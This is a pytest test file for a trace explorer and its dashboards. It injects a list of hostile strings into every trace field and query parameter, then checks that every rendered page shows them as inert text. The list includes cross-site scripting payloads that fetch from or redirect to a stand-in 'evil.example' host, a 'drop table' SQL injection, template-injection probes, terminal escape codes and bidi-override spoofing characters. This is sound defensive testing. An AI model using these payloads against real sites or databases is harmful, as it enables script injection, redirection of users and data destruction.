"""Cross-site scripting and other injection by names and values: all pages show them as text."""

import json
import time
from html.parser import HTMLParser

import pytest
from opentelemetry.proto.common.v1.common_pb2 import InstrumentationScope
from opentelemetry.proto.trace.v1.trace_pb2 import Span, Status
from psycopg.conninfo import make_conninfo

from explorer.dashboards import DASHBOARDS, create_dashboards
from explorer.query import quoted_word
from explorer.traces import create_traces
from tests.hostile import outcomes
from tests.store.otlp_messages import attributes, child, request, span

EVIL = "evil.example"
TEXTS = [
    f"<script src=https://{EVIL}></script>",
    f"</script><script>location='https://{EVIL}'</script>",
    f'"><img src=https://{EVIL} onerror=alert(1)>',
    f"'><a href='https://{EVIL}'>click</a>",
    f'<a href="https://{EVIL}">click</a>',
    f"<svg/onload=fetch('https://{EVIL}')>",
    f"javascript:fetch('//{EVIL}')",
    f"<!--{EVIL}--><style>@import '//{EVIL}'</style>",
    "{{ 7 * 7 }}{% raw %}${7 * 7}<%= 7 * 7 %>",
    "' or 1 = 1; drop table span; --",
    "\x00\x07\x1b[31mred\x1b[0m\r\n",
    "\u202egnp.\u2066txt\u2069\u200b\ufeff",
    "%s %n %(name)s {0} {name}",
    "x" * 100_000,
    "&lt;b&gt;&amp;amp;",
]


class Elements(HTMLParser):
    """The elements of a page, with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.elements.append((tag, dict(attrs)))


def check_page(page: str, where: str) -> None:
    """No element, event handler or link of the page comes from a hostile text."""
    for tag, attributes_ in Elements(page).elements:
        assert tag not in ("img", "iframe", "object", "embed", "base", "style"), (where, tag)
        assert not [name for name in attributes_ if name.startswith("on")], (where, tag, attributes_)
        for name in ("href", "src", "action", "formaction"):
            address = attributes_.get(name) or "/"
            assert address == "data:," or address.startswith(("/", "#", "?", "http://localhost:")), (
                where,
                tag,
                address,
            )
            assert not address.startswith("//"), (where, tag, address)


@pytest.fixture
def hostile(promscale):
    """The ids of one trace per hostile text, which is in all of its fields: a call between two services."""
    trace_ids = []
    for text in TEXTS:
        values = attributes({text: text, "list": [text], "map": {text: text}})
        root = span(
            text,
            start_time_unix_nano=time.time_ns() - 120 * 10**9,
            kind=Span.SPAN_KIND_CLIENT,
            trace_state=text,
            status=Status(code=Status.STATUS_CODE_ERROR, message=text),
            events=[Span.Event(name=text, attributes=values)],
            links=[Span.Link(trace_id=b"1" * 16, span_id=b"2" * 8, trace_state=text, attributes=values)],
        )
        root.attributes.extend(values)
        message = request(root, service=text)
        message.resource_spans[0].resource.attributes.extend(values)
        message.resource_spans[0].scope_spans[0].scope.CopyFrom(
            InstrumentationScope(name=text, version=text, attributes=values)
        )
        message.resource_spans[0].schema_url = text
        message.MergeFrom(request(child(root, text, kind=Span.SPAN_KIND_SERVER), service=f"{text} 2"))
        assert promscale.export(message).partial_success.rejected_spans == 0
        trace_ids.append(root.trace_id.hex())
    return trace_ids


@pytest.mark.parametrize("with_database", [False, True])
def test_traces(hostile, promscale, dsn, with_database):
    uri = make_conninfo(dsn, user="explorer") if with_database else ""
    browser = create_traces(f"127.0.0.1:{promscale.server.port}", uri).test_client()
    pages = [("/search", {}), ("/dependencies", {})]
    pages += [(f"/trace/{trace_id}", {}) for trace_id in hostile]
    for text in TEXTS:
        pages.append(("/search", {"service": text, "operation": text, "tags": json.dumps({text: text})}))
        names = (
            "tags",
            "tag",
            "minDuration",
            "limit",
            "start",
            "lookback",
            "end",
            "sort",
            "after",
            "columns",
            "callee",
        )
        pages += [("/search", {name: text}) for name in names]
        pages.append(("/search", {"columns": quoted_word(text), "sort": "longest"}))
        pages.append(("/search", {"caller": text, "callee": f"{text} 2", "service": text}))
        pages.append(("/dependencies", {"service": text, "tags": json.dumps({text: text}), "operation": text}))
        pages.append((f"/trace/{text}", {}))
    for path, parameters in pages:
        answer = browser.get(path, query_string=parameters)
        assert answer.status_code < 500, (path, parameters)
        check_page(answer.text, f"{path} {parameters}")
    for path in ("/api/services", "/api/traces", f"/api/traces/{hostile[0]}", "/api/dependencies"):
        answer = browser.get(path)
        assert answer.mimetype == "application/json" and json.loads(answer.text)["data"]
    outcomes.note(f"{len(TEXTS)} hostile texts in every field", f"{len(pages)} pages of traces show them as text")


def test_dashboards(hostile, dsn):
    client = create_dashboards(make_conninfo(dsn, user="explorer")).test_client()
    paths = ["/", *(f"/d/{dashboard.uid}/{dashboard.slug}" for dashboard in DASHBOARDS)]
    panels = [
        f"/d/{dashboard.uid}/panels/{number}" for dashboard in DASHBOARDS for number in range(len(dashboard.panels))
    ]
    pages = 0
    for text in [*TEXTS[:13], "none"]:
        stored = text.replace("\0", "\ufffd")
        for path in paths + panels:
            answer = client.get(path, query_string={"var-service": stored, "var-operation": stored})
            assert answer.status_code == 200, (path, text)
            pages += 1
            check_page(answer.text, f"{path} {text}")
        for name in ("from", "to", "refresh"):
            check_page(client.get(paths[1], query_string={name: text}).text, f"{name}={text}")
    outcomes.note(f"{len(TEXTS)} hostile texts in every field", f"{pages} dashboards and panels show them as text")
